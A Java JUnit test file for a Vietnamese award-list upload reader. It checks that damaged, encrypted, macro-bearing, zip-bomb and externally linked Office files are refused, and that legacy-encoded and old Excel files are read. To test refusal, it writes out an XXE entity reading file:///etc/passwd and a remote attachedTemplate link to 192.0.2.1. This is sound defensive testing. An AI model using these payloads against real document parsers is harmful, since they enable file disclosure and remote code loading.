package vn.vinhdanh.core.annex;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.text.Normalizer;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipInputStream;
import java.util.zip.ZipOutputStream;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.crypt.EncryptionInfo;
import org.apache.poi.poifs.crypt.EncryptionMode;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import vn.vinhdanh.core.shared.Sex;

/** {@link GuardedFile} and the readers: what is refused, with which sentence, and what is read in spite of its age or encoding. */
class HostileFilesTest {

    @Test
    void refusesDamagedFiles() {
        var whole = Samples.bytes(Samples.DECISION_9087);
        assertRefused("x.xlsx", Arrays.copyOf(whole, whole.length / 2), "damaged");
        assertRefused("x.xlsx", Arrays.copyOf(whole, whole.length - 30), "damaged");
        var bent = whole.clone();
        for (int i = 400; i < 1_200; i++) {
            bent[i] ^= 0x5a;
        }
        assertRefused("x.xlsx", bent, "damaged");
        assertRefused("x.xlsx", "not a workbook".getBytes(StandardCharsets.UTF_8), "damaged");
        var word = Samples.bytes(Samples.DECISION_9088);
        assertRefused("x.docx", Arrays.copyOf(word, word.length / 3), "damaged");
    }

    @Test
    void refusesWhatIsNoList() {
        assertRefused("x.pdf", "%PDF-1.7 …".getBytes(StandardCharsets.UTF_8), "pdf");
        assertRefused("x.zip", zip(Map.of("readme.txt", "hello".getBytes(StandardCharsets.UTF_8))), "type");
        assertThatThrownBy(() -> Samples.upload("x.xlsx", new byte[0])).hasMessageContaining("problem.annex.empty");
        assertThatThrownBy(() -> Samples.upload("x.xlsx", new byte[AnnexUpload.MAX_BYTES + 1]))
                .hasMessageContaining("problem.annex.too-large");
    }

    @Test
    void refusesEncryptedFiles() throws Exception {
        var info = new EncryptionInfo(EncryptionMode.agile);
        var encryptor = info.getEncryptor();
        encryptor.confirmPassword("bí mật");
        try (var ole = new POIFSFileSystem();
                var out = new ByteArrayOutputStream()) {
            try (var stream = encryptor.getDataStream(ole)) {
                stream.write(Samples.bytes(Samples.DECISION_9087));
            }
            ole.writeFilesystem(out);
            assertRefused("x.xlsx", out.toByteArray(), "encrypted");
        }
    }

    @Test
    void refusesMacros() {
        var parts = parts(Samples.bytes(Samples.DECISION_9087));
        parts.put("xl/vbaProject.bin", new byte[] {1, 2, 3});
        assertRefused("x.xlsx", zip(parts), "macro");
        assertRefused("x.xlsm", Samples.bytes(Samples.DECISION_9087), "macro");

        var declared = parts(Samples.bytes(Samples.DECISION_9088));
        declared.computeIfPresent(
                "[Content_Types].xml",
                (n, b) -> text(b).replace(
                                "wordprocessingml.document.main+xml", "ms-word.document.macroEnabled.main+xml")
                        .getBytes(StandardCharsets.UTF_8));
        assertRefused("x.docx", zip(declared), "macro");
    }

    @Test
    void refusesReferencesToOtherFiles() {
        var parts = parts(Samples.bytes(Samples.DECISION_9087));
        parts.put("xl/externalLinks/externalLink1.xml", "<externalLink/>".getBytes(StandardCharsets.UTF_8));
        assertRefused("x.xlsx", zip(parts), "external");

        var word = parts(Samples.bytes(Samples.DECISION_9088));
        word.put(
                "word/_rels/settings.xml.rels",
                ("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                                + " Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\""
                                + " Target=\"http://192.0.2.1/x.dotm\" TargetMode=\"External\"/></Relationships>")
                        .getBytes(StandardCharsets.UTF_8));
        assertRefused("x.docx", zip(word), "external");
    }

    @Test
    void refusesDocumentTypesAndEntities() {
        for (String part : List.of("xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml")) {
            var parts = parts(Samples.bytes(Samples.DECISION_9087));
            parts.computeIfPresent(
                    part,
                    (n, b) -> text(b).replaceFirst(
                                    "\\?>", "?><!DOCTYPE x [<!ENTITY secret SYSTEM \"file:///etc/passwd\">]>")
                            .getBytes(StandardCharsets.UTF_8));
            assertRefused("x.xlsx", zip(parts), "dtd");
            parts.computeIfPresent(
                    part,
                    (n, b) -> text(b).replaceFirst("encoding=\"UTF-8\"", "encoding=\"UTF-16\"")
                            .getBytes(StandardCharsets.UTF_16));
            assertRefused("x.xlsx", zip(parts), "dtd");
        }
    }

    @Test
    void refusesZipBombs() {
        var one = parts(Samples.bytes(Samples.DECISION_9087));
        one.put("xl/worksheets/sheet1.xml", new byte[60 * 1024 * 1024]);
        assertRefused("x.xlsx", zip(one), "bomb");

        var many = parts(Samples.bytes(Samples.DECISION_9087));
        for (int i = 0; i <= GuardedFile.MAX_PARTS; i++) {
            many.put("xl/media/" + i + ".xml", new byte[] {1});
        }
        assertRefused("x.xlsx", zip(many), "bomb");
    }

    @Test
    void refusesTextOfBeforeUnicode() {
        assertRefused(
                "x.csv",
                Samples.csv(List.of(
                                "STT,Hä vµ tªn,§¬n vÞ",
                                "1,NguyÔn V¨n Hïng,Së Tµi chÝnh",
                                "2,TrÇn ThÞ Mai,Së Néi vô",
                                "3,Lª Quang §øc,BÖnh viÖn §a khoa tØnh"))
                        .getBytes(StandardCharsets.UTF_8),
                "legacy-encoding");
        assertThatThrownBy(() -> Samples.read(Samples.upload(
                        "x.csv",
                        Samples.csv(List.of(
                                        "STT,Hoï vaø teân,Ñôn vò",
                                        "1,Nguyeãn Vaên Huøng,Sôû Taøi chính",
                                        "2,Traàn Thò Mai,Sôû Noäi vuï",
                                        "3,Leâ Quang Ñöùc,Beänh vieän Ña khoa tænh"))
                                .getBytes(StandardCharsets.UTF_8))))
                .hasMessageContaining("VNI");
    }

    @Test
    void decomposedTextAndHardSpacesReadLikeAnyOther() {
        var composed = "1,Ông\u00a0Nguyễn\u00a0Văn Hùng ,Sở Tài chính,Bằng khen";
        var list = Samples.read(Samples.upload(
                "x.csv",
                Samples.csv(List.of(
                                "STT,Họ và tên,Đơn vị,Danh hiệu", Normalizer.normalize(composed, Normalizer.Form.NFD)))
                        .getBytes(StandardCharsets.UTF_8)));
        assertThat(list.rows()).singleElement().satisfies(row -> {
            assertThat(row.salutation()).isEqualTo("Ông");
            assertThat(row.name()).isEqualTo("Nguyễn Văn Hùng");
            assertThat(row.unit()).isEqualTo("Sở Tài chính");
            assertThat(row.sex()).isEqualTo(Sex.MALE);
        });
    }

    @Test
    void oldExcelFilesAreRead() throws IOException {
        try (var book = new HSSFWorkbook();
                var out = new ByteArrayOutputStream()) {
            var sheet = book.createSheet("Danh sách");
            String[][] cells = {
                {"DANH SÁCH CÁ NHÂN KHEN THƯỞNG NĂM 2020"},
                {"TT", "Họ và tên", "Chức vụ, đơn vị công tác", "Hình thức"},
                {"1", "Bà Trần Thị Cũ", "Giáo viên, Trường THPT Hoa Lư A", "Bằng khen"}
            };
            for (int r = 0; r < cells.length; r++) {
                for (int c = 0; c < cells[r].length; c++) {
                    (c == 0 ? sheet.createRow(r) : sheet.getRow(r))
                            .createCell(c)
                            .setCellValue(cells[r][c]);
                }
            }
            book.createSheet("Ẩn").createRow(0).createCell(0).setCellValue("STT");
            book.setSheetHidden(1, true);
            book.write(out);
            var list = Samples.read(Samples.upload("cu.xls", out.toByteArray()));
            assertThat(list.format()).isEqualTo(AnnexFormat.XLS);
            assertThat(list.tables()).hasSize(1);
            assertThat(list.rows()).singleElement().satisfies(row -> {
                assertThat(row.place()).isEqualTo(3);
                assertThat(row.post()).isEqualTo("Giáo viên");
                assertThat(row.unit()).isEqualTo("Trường THPT Hoa Lư A");
            });
        }
    }

    @Test
    void cellsMergedDownSayTheSameForEachRow() throws IOException {
        try (var book = new XSSFWorkbook();
                var out = new ByteArrayOutputStream()) {
            var sheet = book.createSheet("Danh sách");
            String[][] cells = {
                {"STT", "Họ và tên", "Đơn vị công tác", "Danh hiệu"},
                {"1", "Ông Một", "Sở Tài chính", "Bằng khen của Chủ tịch UBND tỉnh"},
                {"2", "Bà Hai", "", ""},
                {"3", "Ông Ba", "Sở Nội vụ", ""}
            };
            for (int r = 0; r < cells.length; r++) {
                var row = sheet.createRow(r);
                for (int c = 0; c < cells[r].length; c++) {
                    if (!cells[r][c].isEmpty()) {
                        row.createCell(c).setCellValue(cells[r][c]);
                    }
                }
            }
            sheet.addMergedRegion(org.apache.poi.ss.util.CellRangeAddress.valueOf("C2:C3"));
            sheet.addMergedRegion(org.apache.poi.ss.util.CellRangeAddress.valueOf("D2:D4"));
            book.write(out);
            var rows = Samples.read(Samples.upload("x.xlsx", out.toByteArray())).rows();
            assertThat(rows).extracting(AnnexRow::unit).containsExactly("Sở Tài chính", "Sở Tài chính", "Sở Nội vụ");
            assertThat(rows).extracting(AnnexRow::award).containsOnly("Bằng khen của Chủ tịch UBND tỉnh");
        }
    }

    @Test
    void fiftyThousandRowsAreReadAndStoppable() {
        var upload = Samples.upload("lon.xlsx", Workbooks.list(50_000));
        long start = System.nanoTime();
        var list = Samples.read(upload);
        System.out.printf(
                "50,000 rows (%d kB): read and understood in %.2f s%n",
                upload.size() / 1024, (System.nanoTime() - start) / 1e9);
        assertThat(list.rows()).hasSize(50_000);

        assertThatThrownBy(() -> Samples.understanding().read(upload, lines -> lines < 2_000))
                .hasMessageContaining("problem.annex.stopped");
    }

    private static void assertRefused(String name, byte[] content, String reason) {
        var upload = Samples.upload(name, content);
        assertThatThrownBy(() -> Samples.read(upload))
                .isInstanceOf(AnnexRefused.class)
                .satisfies(e -> assertThat(((AnnexRefused) e).key()).isEqualTo("problem.annex." + reason));
    }

    private static String text(byte[] bytes) {
        return new String(bytes, StandardCharsets.UTF_8);
    }

    static Map<String, byte[]> parts(byte[] zip) {
        var parts = new LinkedHashMap<String, byte[]>();
        try (var in = new ZipInputStream(new ByteArrayInputStream(zip))) {
            for (ZipEntry entry; (entry = in.getNextEntry()) != null; ) {
                parts.put(entry.getName(), in.readAllBytes());
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return parts;
    }

    static byte[] zip(Map<String, byte[]> parts) {
        var bytes = new ByteArrayOutputStream();
        try (var out = new ZipOutputStream(bytes)) {
            for (var part : new ArrayList<>(parts.entrySet())) {
                out.putNextEntry(new ZipEntry(part.getKey()));
                out.write(part.getValue());
                out.closeEntry();
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return bytes.toByteArray();
    }
}
